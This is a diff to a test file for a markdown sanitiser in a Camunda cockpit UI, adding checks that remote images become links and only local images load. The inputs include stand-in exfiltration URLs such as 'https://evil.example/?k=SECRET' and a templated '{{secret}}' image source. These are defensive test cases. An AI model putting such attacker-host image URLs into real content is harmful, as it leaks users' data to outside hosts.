@@ -6,7 +6,7 @@
 import { readFileSync } from 'node:fs';
 import { join } from 'node:path';
 import { describe, expect, it } from 'vitest';
-import { neutralizeFormSchema, renderSafeMarkdown, safeUrl } from '../../src/cockpit/ui/safe-markdown.js';
+import { isLocalImage, neutralizeFormSchema, renderSafeMarkdown, safeUrl } from '../../src/cockpit/ui/safe-markdown.js';
 
 /** what marked writes for markdown: nothing else may appear */
 const MARKDOWN_TAGS = new Set(['p', 'a', 'img', 'h1', 'h2', 'h3', 'h4', 'h5', 'h6', 'strong', 'em', 'del', 'code', 'pre', 'blockquote', 'ul', 'ol', 'li', 'hr', 'br', 'table', 'thead', 'tbody', 'tr', 'th', 'td', 'input']);
@@ -62,14 +62,25 @@ describe('safe markdown for form-js text views', () => {
   });
 
   it('still renders markdown: headings, emphasis, lists, code, safe links and images', () => {
-    const html = renderSafeMarkdown('# Review\n**bold** _it_ `a < b`\n\n- one\n- two\n\n[docs](https://docs.camunda.io) [rel](/cockpit) ![chart](https://x.example/c.png)');
+    const html = renderSafeMarkdown('# Review\n**bold** _it_ `a < b`\n\n- one\n- two\n\n[docs](https://docs.camunda.io) [rel](/cockpit) ![chart](/cockpit/assets/c.png)');
     expect(html).toContain('<h1>Review</h1>');
     expect(html).toContain('<strong>bold</strong>');
     expect(html).toContain('<code>a &lt; b</code>');
     expect(html).toContain('<li>one</li>');
     expect(html).toContain('<a href="https://docs.camunda.io">docs</a>');
     expect(html).toContain('<a href="/cockpit">rel</a>');
-    expect(html).toContain('<img src="https://x.example/c.png" alt="chart">');
+    expect(html).toContain('<img src="/cockpit/assets/c.png" alt="chart">');
+  });
+
+  it('loads only local images; one from another host (which could carry templated data away) becomes a link', () => {
+    const html = renderSafeMarkdown('![a](/x.png) ![b](data:image/png;base64,AA) ![c](https://evil.example/?k=SECRET) ![d](//evil.example/x)');
+    expect(html).toContain('<img src="/x.png" alt="a">');
+    expect(html).toContain('<img src="data:image/png;base64,AA" alt="b">');
+    expect(html).toContain('<a href="https://evil.example/?k=SECRET">c</a>');
+    expect(html).toContain('<a href="//evil.example/x">d</a>');
+    expect(tagsOf(html).filter((t) => t.name === 'img')).toHaveLength(2);
+    for (const local of ['/a.png', 'a.png', '../a.png', 'data:image/gif;base64,R0', '#']) expect(isLocalImage(local), local).toBe(true);
+    for (const remote of ['https://evil.example/a.png', '//evil.example/a.png', 'http://127.0.0.1:9/x', ' https://e/x', 'data:text/html,x', 'javascript:x']) expect(isLocalImage(remote), remote).toBe(false);
   });
 
   it('keeps only http(s), mailto and relative link targets', () => {
@@ -96,6 +107,21 @@ describe('form schema neutralization', () => {
     expect(safe.components[1]).toEqual(schema.components[1]);
     expect((safe.components[2] as any).components[0].components[0]).toEqual({ type: 'text', text: '<b>x</b>' }); // eslint-disable-line @typescript-eslint/no-explicit-any
     expect(JSON.stringify(safe)).not.toContain('"html"');
+  });
+
+  it('turns image views into text views whose markdown image follows the local-only rule (expressions are shown, not loaded)', () => {
+    const safe = neutralizeFormSchema({ components: [
+      { type: 'image', id: 'i1', source: 'https://evil.example/?{{secret}}', alt: 'Chart' },
+      { type: 'image', id: 'i2', source: '=imageUrl' },
+      { type: 'image', id: 'i3', source: '/cockpit/assets/logo.png', alt: 'Logo' },
+    ] });
+    expect(safe.components).toEqual([
+      { type: 'text', id: 'i1', text: '![Chart](<https://evil.example/?{{secret}}>)' },
+      { type: 'text', id: 'i2', text: 'Image from an expression, not loaded: `=imageUrl`' },
+      { type: 'text', id: 'i3', text: '![Logo](</cockpit/assets/logo.png>)' },
+    ]);
+    expect(renderSafeMarkdown('![Chart](<https://evil.example/?q=SECRET>)')).toContain('<a href="https://evil.example/?q=SECRET">Chart</a>');
+    expect(renderSafeMarkdown((safe.components[2] as unknown as { text: string }).text)).toContain('<img src="/cockpit/assets/logo.png" alt="Logo">');
   });
 
   it('is what the tasklist hands to form-js, with the safe markdown renderer in place of form-js\'s own', () => {
